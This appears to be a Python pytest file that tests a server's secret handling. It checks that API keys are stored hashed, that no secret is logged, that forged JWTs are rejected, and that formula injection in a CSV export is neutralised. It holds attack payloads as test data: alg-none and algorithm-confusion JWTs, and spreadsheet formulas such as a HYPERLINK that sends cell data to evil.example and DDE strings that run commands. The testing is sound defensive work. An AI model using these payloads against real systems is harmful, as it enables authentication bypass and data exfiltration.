"""Secrets through the real server: API keys are stored only as hashes (a
dump of the whole database contains no secret), no secret or JWT ever
reaches the logs (a server is driven with valid, invalid, malformed and
oversized credentials in every place a client might put them, then its log
is searched), and the JWT checks of /rpc: alg confusion (RS256/ES256/HS512
headers, case variants of "none", "none" with and without a signature),
exp and nbf, crit, a QR key as a JWT and a JWT as a QR key; and errors.csv
(the certificate surface's CSV export) neutralises formula injection. The
mint CSV export is not on main yet and not covered.

Constant-time comparison is not timed here (timed tests are not allowed):
tests/unit/test_auth.c covers bd_token_check, which compares hash bytes with
sodium_memcmp.
"""
import base64
import hashlib
import hmac
import json
import subprocess
import time

import pytest
import requests

from batchd_client import raw_request, request_bytes
from conftest import JWT_SECRET, find_tool


@pytest.fixture(scope="module")
def srv(server_factory):
    return server_factory(env={"BATCHD_RATE_LIMIT": "0", "BATCHD_ACCESS_LOG": "1", "BATCHD_MAX_HEADER_BYTES": "4096",
                               "BATCHD_JWT_MAX_TTL_S": str(JWT_MAX_TTL)})


@pytest.fixture(scope="module")
def demo(srv, run_batchd):
    # the demo's tokens are made to live as long as the cap allows
    out = run_batchd("seed-demo", "--json", env={"BATCHD_PUBLIC_URL": srv.url, "BATCHD_JWT_MAX_TTL_S": str(JWT_MAX_TTL)})
    assert out.returncode == 0, out.stderr
    return json.loads(out.stdout)


def b64(b):
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def jwt(claims, alg="HS256", key=JWT_SECRET.encode(), header=None, sig=None):
    h = dict({"alg": alg, "typ": "JWT"}, **(header or {}))
    head = b64(json.dumps(h).encode())
    body = b64(json.dumps(claims).encode())
    signing = ("%s.%s" % (head, body)).encode()
    if sig is None:
        digest = hashlib.sha512 if alg == "HS512" else hashlib.sha384 if alg == "HS384" else hashlib.sha256
        sig = b64(hmac.new(key, signing, digest).digest())
    return "%s.%s.%s" % (head, body, sig)


def secret_part(token):
    return token.rsplit("_", 1)[1]


def test_keys_stored_hashed(srv, demo, database, psql):
    qr = demo["qr"]
    rows = psql("SELECT id, secret_hash FROM qr_api_keys").splitlines()
    hashes = {r.split("|")[0]: r.split("|")[1] for r in rows}
    for name in ("live_key", "test_key", "read_only_key"):
        tok = qr[name]
        kid = tok[len("qr_live_") if tok.startswith("qr_live_") else len("qr_test_"):].rsplit("_", 1)[0]
        assert kid in hashes, (kid, list(hashes))
        assert hashes[kid] == hashlib.sha256(secret_part(tok).encode()).hexdigest()
    # the whole database, dumped: no secret, no full token, no JWT, anywhere
    dump = subprocess.run([find_tool("pg_dump"), "--data-only", database], capture_output=True, text=True,
                          timeout=120)
    assert dump.returncode == 0, dump.stderr
    assert "qr_api_keys" in dump.stdout
    for name in ("live_key", "test_key", "read_only_key"):
        assert secret_part(qr[name]) not in dump.stdout, name
        assert qr[name] not in dump.stdout
    for name in ("jwt", "viewer_jwt"):
        assert demo["products"][name].rsplit(".", 1)[1] not in dump.stdout
    # Idempotency-Key rows name the credential by its public id only
    tok = qr["live_key"]
    r = requests.post(srv.url + "/v1/batches", headers={"Authorization": "Bearer " + tok, "Idempotency-Key": "sec-1"},
                      data=json.dumps({"items": [{"target": {"text": "s"}}]}))
    assert r.status_code == 202
    cred = psql("SELECT credential FROM bd_idempotency WHERE key = 'sec-1'")
    assert cred and secret_part(tok) not in cred and tok not in cred


def test_secrets_never_logged(srv, demo):
    qr, pr = demo["qr"], demo["products"]
    live, jwt_tok = qr["live_key"], pr["jwt"]
    wrong = live[:-4] + ("AAAA" if not live.endswith("AAAA") else "BBBB")
    secrets = [secret_part(live), secret_part(qr["test_key"]), secret_part(qr["read_only_key"]),
               secret_part(wrong), jwt_tok.rsplit(".", 1)[1], pr["viewer_jwt"].rsplit(".", 1)[1], JWT_SECRET]
    u = srv.url
    s = requests.Session()
    for tok in (live, wrong, qr["test_key"], qr["read_only_key"]):
        h = {"Authorization": "Bearer " + tok}
        s.get(u + "/v1/batches", headers=h)
        s.post(u + "/v1/batches", headers=h, data=json.dumps({"items": [{"target": {"text": "x"}}]}))
        s.post(u + "/v1/batches", headers=h, data="{not json")
        s.get(u + "/v1/qr-codes/nope", headers=h)
        s.get(u + "/v1/batches?cursor=" + tok, headers=h)  # in a query string (not logged)
        s.get(u + "/v1/batches?api_key=" + tok)
        # (paths and client-chosen X-Request-Ids are logged as sent: a client
        # that puts its secret there publishes it; SECURITY.md says so)
        s.post(u + "/rpc/list_products", headers={"Authorization": "Bearer " + tok}, data="{}")
    for tok in (jwt_tok, pr["viewer_jwt"], jwt_tok[:-2] + "xx"):
        h = {"Authorization": "Bearer " + tok}
        s.post(u + "/rpc/list_products", headers=h, data=json.dumps({"_brand_id": pr["brand_id"]}))
        s.post(u + "/rpc/create_product", headers=h, data=json.dumps({"_brand_id": pr["brand_id"], "_name": "x",
                                                                      "_gtin": "bad"}))
        s.post(u + "/rpc/no_such_fn", headers=h, data="{}")
        s.get(u + "/v1/batches", headers=h)
    # malformed and oversized requests carrying a credential
    raw_request(srv.port, request_bytes("GET", "/v1/batches", {"Authorization": "Bearer " + live,
                                                               "X-Pad": "p" * 5000}))
    raw_request(srv.port, b"GET /v1/batches HTTP/1.1\r\nAuthorization: Bearer " + live.encode() +
                b"\r\nBad Header\r\n\r\n")
    raw_request(srv.port, b"GET /v1/batches?key=" + live.encode() + b" HTTP/1.1\r\nContent-Length: 1\r\n"
                b"Content-Length: 2\r\n\r\n")
    time.sleep(1.2)  # logs are written once per loop iteration; give the last lines time
    text = srv.log_text()
    assert text.count('"request"') >= 40, "the access log is not on"
    for sec in secrets:
        assert sec not in text, "a secret reached the log: ...%s..." % text[max(0, text.find(sec) - 200):
                                                                            text.find(sec) + 100]


NOW = int(time.time())
JWT_MAX_TTL = 7 * 86400  # BATCHD_JWT_MAX_TTL_S of this module's server (the default is 30 days)


def bad_jwts(sub):
    ok = {"sub": sub, "exp": NOW + 600}
    key = JWT_SECRET.encode()
    return {
        "alg none, no signature": jwt(ok, alg="none", sig=""),
        "alg none, with a signature": jwt(ok, alg="none"),
        "alg None": jwt(ok, alg="None", sig=""),
        "alg NONE": jwt(ok, alg="NONE", sig=""),
        "alg hs256 (case)": jwt(ok, alg="hs256"),
        "alg HS512 with the secret": jwt(ok, alg="HS512"),
        "alg HS384 with the secret": jwt(ok, alg="HS384"),
        "alg RS256, HMAC-signed with the secret (confusion)": jwt(ok, alg="RS256",
                                                                  sig=b64(hmac.new(key, b"x", hashlib.sha256).digest())),
        "alg RS256, signed as HS256": "%s.%s.%s" % (
            b64(json.dumps({"alg": "RS256"}).encode()), b64(json.dumps(ok).encode()),
            b64(hmac.new(key, ("%s.%s" % (b64(json.dumps({"alg": "RS256"}).encode()),
                                          b64(json.dumps(ok).encode()))).encode(), hashlib.sha256).digest())),
        "alg ES256": jwt(ok, alg="ES256", sig="AAAA"),
        "no alg": "%s.%s.%s" % (b64(b'{"typ":"JWT"}'), b64(json.dumps(ok).encode()), "AAAA"),
        "crit header": jwt(ok, header={"crit": ["exp"]}),
        "jku/kid header do not select a key": jwt(ok, key=b"attacker", header={"kid": "../../dev/null",
                                                                                 "jku": "https://evil.example/k"}),
        "wrong secret": jwt(ok, key=b"not-the-secret"),
        "empty secret": jwt(ok, key=b""),
        "expired": jwt({"sub": sub, "exp": NOW - 120}),
        "exp missing": jwt({"sub": sub}),
        "exp a string": jwt({"sub": sub, "exp": str(NOW + 600)}),
        "nbf in the future": jwt({"sub": sub, "exp": NOW + 600, "nbf": NOW + 300}),
        "exp beyond BATCHD_JWT_MAX_TTL_S": jwt({"sub": sub, "exp": NOW + JWT_MAX_TTL + 3600}),
        "exp a century out": jwt({"sub": sub, "exp": NOW + 100 * 365 * 86400}),
        "duplicate exp claim": "%s.%s.%s" % (b64(b'{"alg":"HS256"}'), b64(('{"sub":"%s","exp":%d,"exp":%d}' % (
            sub, NOW - 100, NOW + 600)).encode()), "SIG"),
        "two parts": ".".join(jwt(ok).split(".")[:2]),
        "four parts": jwt(ok) + ".x",
        "signature base64 padded": jwt(ok) + "=",
        "payload not JSON": "%s.%s.%s" % (b64(b'{"alg":"HS256"}'), b64(b"not json"), "AAAA"),
    }


def test_jwt_attacks_rejected(srv, demo):
    pr = demo["products"]
    args = json.dumps({"_brand_id": pr["brand_id"]})
    # the positive controls: the seed's token and one we sign the same way
    for tok in (pr["jwt"], jwt({"sub": pr["user_id"], "exp": NOW + 600}),
                jwt({"sub": pr["user_id"], "exp": NOW - 10}),          # within the 30 s leeway
                jwt({"sub": pr["user_id"], "exp": NOW + 600, "nbf": NOW + 10}),
                jwt({"sub": pr["user_id"], "exp": NOW + JWT_MAX_TTL - 3600})):  # within the lifetime cap
        r = requests.post(srv.url + "/rpc/list_products", headers={"Authorization": "Bearer " + tok}, data=args)
        assert r.status_code == 200, r.text
    # the duplicate-claim token signed for real (the signature is not what rejects it)
    dup_head = b64(b'{"alg":"HS256"}')
    dup_body = b64(('{"sub":"%s","exp":%d,"exp":%d}' % (pr["user_id"], NOW - 100, NOW + 600)).encode())
    dup = "%s.%s.%s" % (dup_head, dup_body, b64(hmac.new(JWT_SECRET.encode(), ("%s.%s" % (dup_head, dup_body)).encode(),
                                                         hashlib.sha256).digest()))
    cases = dict(bad_jwts(pr["user_id"]), **{"duplicate exp claim, signed": dup,
                                             "a QR API key as a JWT": demo["qr"]["live_key"]})
    for name, tok in cases.items():
        r = requests.post(srv.url + "/rpc/list_products", headers={"Authorization": "Bearer " + tok}, data=args)
        assert r.status_code == 401, (name, r.status_code, r.text)
        body = r.json()
        assert body["message"] == "Not authenticated", (name, body)
        assert pr["brand_id"] not in r.text
    # and a JWT is not a QR key
    r = requests.get(srv.url + "/v1/batches", headers={"Authorization": "Bearer " + pr["jwt"]})
    assert r.status_code == 401 and r.json()["error"]["code"] == "unauthenticated"



def test_errors_csv_neutralises_formulas(srv, demo):
    """errors.csv (the certificate surface's export of failed rows) opened
    in a spreadsheet: no cell may start a formula (= + - @, or tab / CR
    before one) and no cell may break out into another row or column."""
    biz = demo["business"]
    nasty = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0",
             "\t=tab", "\r=cr", "=1+1\r\nbad9,=injected", 'a"quote,comma', "=cmd|' /C calc'!A0", "-",
             "safe name"]
    rows = []
    for i, v in enumerate(nasty):
        q = '"%s"' % v.replace('"', '""')
        rows.append('bad%d,%s' % (i, q))                          # a bad email, the payload as the name
        rows.append('%s,Name %d' % (q, i))                         # the payload as the (bad) email
    data = ("RecipientsEmail,RecipientsName\r\n" + "\r\n".join(rows) + "\r\n").encode()
    r = requests.post(srv.url + "/business/batches", headers={"Authorization": "Bearer " + biz["token"]},
                      files=[("name", (None, "formulas")), ("template_id", (None, biz["template_ids"]["plain"])),
                             ("csv_file", ("r.csv", data, "text/csv"))])
    assert r.status_code == 201, r.text
    b = r.json()["data"]
    assert b["failed_certificates"] == len(rows)
    g = requests.get(srv.url + "/business/batches/%s/errors.csv" % b["id"],
                     headers={"Authorization": "Bearer " + biz["token"]})
    assert g.status_code == 200 and g.headers["Content-Type"].startswith("text/csv")
    import csv
    import io
    out = list(csv.reader(io.StringIO(g.content.decode("utf-8"), newline="")))
    assert out[0] == ["Row", "RecipientsEmail", "RecipientsName", "Reason"]
    body = out[1:]
    assert len(body) == len(rows), "a cell broke out into extra rows: %d rows for %d" % (len(body), len(rows))
    assert all(len(x) == 4 for x in body), [x for x in body if len(x) != 4][:3]
    for row in body:
        for cell in row[1:3]:
            assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r"), "formula not neutralised: %r" % cell
    # the values are kept (with the quote prefix), not mangled
    names = {x[2] for x in body}
    assert "'+SUM(1,2)" in names and "'-2+3" in names and 'a"quote,comma' in names and "safe name" in names
